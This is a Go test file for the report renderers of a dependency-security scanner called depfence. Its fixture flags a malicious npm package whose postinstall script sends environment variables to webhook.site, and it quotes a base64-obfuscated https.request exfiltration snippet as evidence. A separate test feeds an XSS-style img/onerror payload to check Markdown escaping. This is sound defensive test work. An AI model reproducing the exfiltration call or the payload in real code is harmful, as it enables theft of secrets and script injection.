package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/finding"
)

var update = flag.Bool("update", false, "rewrite golden files")

// sampleResult is a fixed result used by the golden tests of every format.
func sampleResult() *Result {
	at := time.Date(2026, 12, 4, 10, 0, 0, 0, time.UTC)
	mk := func(rule string, sev finding.Severity, pkg finding.Package, msg, file string, line int, ev ...finding.Evidence) finding.Finding {
		f := finding.Finding{Rule: finding.RuleID(rule), RuleVersion: 1, Package: pkg, Severity: sev,
			Confidence: finding.ConfidenceHigh, Message: msg, Location: finding.Location{File: file, Line: line}, Evidence: ev}
		f.Fingerprint = f.ComputeFingerprint()
		return f
	}
	evil := finding.Package{Name: "evil-helper", Version: "1.0.1"}
	ok := finding.Package{Name: "left-pad", Version: "1.3.0"}
	r := &Result{
		SchemaVersion: SchemaVersion,
		Tool:          Tool{Name: "depfence", Version: "test"},
		StartedAt:     at, FinishedAt: at.Add(2 * time.Second),
		Project: Project{Dir: "demo", Lockfile: "demo/package-lock.json", LockfileFormat: "npm lockfileVersion 3"},
		Packages: []Package{
			{Name: "evil-helper", Version: "1.0.1", Source: "registry", Direct: true, Path: []string{".", "evil-helper@1.0.1"},
				LockfileLine: 40, Status: StatusAnalysed, Verdict: "malicious", Score: 97,
				Chain: []string{"runs at install (postinstall: node setup.js)", "reads all of process.env", "sends it to webhook.site"}},
			{Name: "left-pad", Version: "1.3.0", Source: "registry", Path: []string{".", "express@4.21.2", "left-pad@1.3.0"},
				LockfileLine: 77, Status: StatusAnalysed, Verdict: "ok"},
			{Name: "broken", Version: "0.0.1", Source: "registry", Status: StatusNotAnalysed, StatusReason: "tarball: integrity mismatch"},
		},
		Findings: []Finding{
			{Finding: mk("net/exfil-service", finding.SeverityCritical, evil, "Sends data to a known exfiltration service (webhook.site)", "setup.js", 12,
				finding.Evidence{Snippet: `https.request(Buffer.from("aHR0cHM6Ly93ZWJob29rLnNpdGUveA==","base64").toString())`, Decoded: `https://webhook.site/x`}),
				Title: "Exfiltration service", Remediation: "Remove the package and rotate any secret the install could read.", Decision: DecisionFail,
				Path: []string{".", "evil-helper@1.0.1"}, LockfileLine: 40},
			{Finding: mk("install/lifecycle-script", finding.SeverityMedium, evil, "Runs a postinstall script: node setup.js", "package.json", 0,
				finding.Evidence{Snippet: "node setup.js"}), Decision: DecisionWarn, LockfileLine: 40},
			{Finding: mk("code/dynamic-eval", finding.SeverityLow, ok, "Builds code at run time with Function()", "index.js", 3), Decision: DecisionAccepted,
				Acceptance: &Acceptance{Package: "left-pad@1.3.0", Rule: "code/*", Reason: "reviewed: template compiler", Expires: "2027-01-31"}},
		},
		Rules: []Rule{
			{ID: "net/exfil-service", Version: 1, Title: "Exfiltration service", Help: "The package contacts a service attackers use to receive stolen data.", DefaultSeverity: finding.SeverityHigh},
			{ID: "install/lifecycle-script", Version: 1, Title: "Install script", Help: "The package runs code when installed.", DefaultSeverity: finding.SeverityMedium},
			{ID: "code/dynamic-eval", Version: 1, Title: "Dynamic code", Help: "eval or Function with non-constant input.", DefaultSeverity: finding.SeverityLow},
		},
		Policy: Policy{File: "depfence.yaml", FailOn: finding.SeverityHigh, Stale: []Acceptance{{Package: "lodash@<4.17.21", Rule: "vuln/*", Reason: "old"}}},
		Errors: []Error{{Package: "broken@0.0.1", Stage: "fetch", Message: "integrity mismatch: lockfile sha512-AAA…, tarball sha512-BBB…"}},
	}
	r.Summary = Summary{Packages: 3, Analysed: 2, NotAnalysed: 1,
		Findings: map[string]int{"critical": 1, "medium": 1, "low": 1}, Accepted: 1,
		Verdicts: map[string]int{"malicious": 1, "ok": 1}, Failed: true,
		FailReasons: []string{"1 finding at or above high"}}
	return r
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs (-want +got):\n%s", name, diff)
	}
}

func TestGolden(t *testing.T) {
	for _, f := range []struct {
		render Renderer
		file   string
	}{{RenderText, "sample.txt"}, {RenderJSON, "sample.json"}, {RenderMarkdown, "sample.md"}} {
		var buf bytes.Buffer
		if err := f.render(&buf, sampleResult(), Options{}); err != nil {
			t.Fatal(err)
		}
		golden(t, f.file, buf.Bytes())
	}
}

func TestTextFitsWidth(t *testing.T) {
	var buf bytes.Buffer
	if err := RenderText(&buf, sampleResult(), Options{Width: 80}); err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.Split(buf.String(), "\n") {
		// The summary line may be longer; everything else fits 80 columns.
		if n := len([]rune(line)); n > 80 && !strings.Contains(line, "FAIL") {
			t.Errorf("line %d has %d columns: %q", i+1, n, line)
		}
	}
	if strings.Contains(buf.String(), "\x1b[") {
		t.Error("colour codes without Color option")
	}
	buf.Reset()
	RenderText(&buf, sampleResult(), Options{Color: true})
	if !strings.Contains(buf.String(), "\x1b[") {
		t.Error("no colour with Color option")
	}
}

func TestJSONRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	want := sampleResult()
	if err := RenderJSON(&buf, want, Options{}); err != nil {
		t.Fatal(err)
	}
	got, err := Decode(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("round trip (-want +got):\n%s", diff)
	}
	if _, err := Decode(strings.NewReader(`{"schemaVersion": 99}`)); err == nil {
		t.Error("newer schema accepted")
	}
	if _, err := Decode(strings.NewReader(`{"findings": []}`)); err == nil {
		t.Error("document without schemaVersion accepted")
	}
}

func TestMarkdownEscapes(t *testing.T) {
	r := sampleResult()
	r.Findings[0].Message = "evil | <img src=x onerror=alert(1)> [link](http://x)"
	var buf bytes.Buffer
	if err := RenderMarkdown(&buf, r, Options{}); err != nil {
		t.Fatal(err)
	}
	if s := buf.String(); strings.Contains(s, "<img") || strings.Contains(s, "[link](") || strings.Contains(s, "evil | <") {
		t.Errorf("markdown not escaped:\n%s", s)
	}
}
